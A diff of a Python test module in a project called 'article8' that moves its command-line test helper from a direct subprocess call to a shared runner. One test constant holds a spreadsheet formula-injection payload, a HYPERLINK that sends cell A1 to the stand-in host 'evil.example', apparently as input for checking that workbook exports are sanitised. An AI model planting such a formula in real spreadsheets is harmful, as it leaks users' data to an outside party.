@@ -3,9 +3,6 @@
 from __future__ import annotations
 
 import json
-import os
-import subprocess
-import sys
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -29,7 +26,8 @@ from article8.controls.catalogue.services import (
 )
 from article8.core.db import Database
 from article8.core.models import AuditEvent
-from tests.conftest import SYSTEM_ACTOR, TEST_ARGON2, FakeClock
+from tests.cli_runner import Completed, article8
+from tests.conftest import SYSTEM_ACTOR, FakeClock
 
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 CUSTOM = {
@@ -341,21 +339,8 @@ def test_a_file_that_is_not_a_workbook_is_refused(tmp_path: Path):
 # --- the command line ------------------------------------------------------------------------
 
 
-def _article8(database_url: str, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
-    env = {
-        **os.environ,
-        **TEST_ARGON2,
-        "DATABASE_URL": database_url,
-        "ARTICLE8_INSTANCE_DIR": str(tmp_path / "instance"),
-    }
-    result = subprocess.run(
-        [sys.executable, "-m", "article8.cli", *args],
-        env=env,
-        capture_output=True,
-        text=True,
-        timeout=120,
-        check=False,
-    )
+def _article8(database_url: str, tmp_path: Path, *args: str) -> Completed:
+    result = article8(database_url, tmp_path, *args)
     assert result.returncode == 0, result.stderr
     return result
 
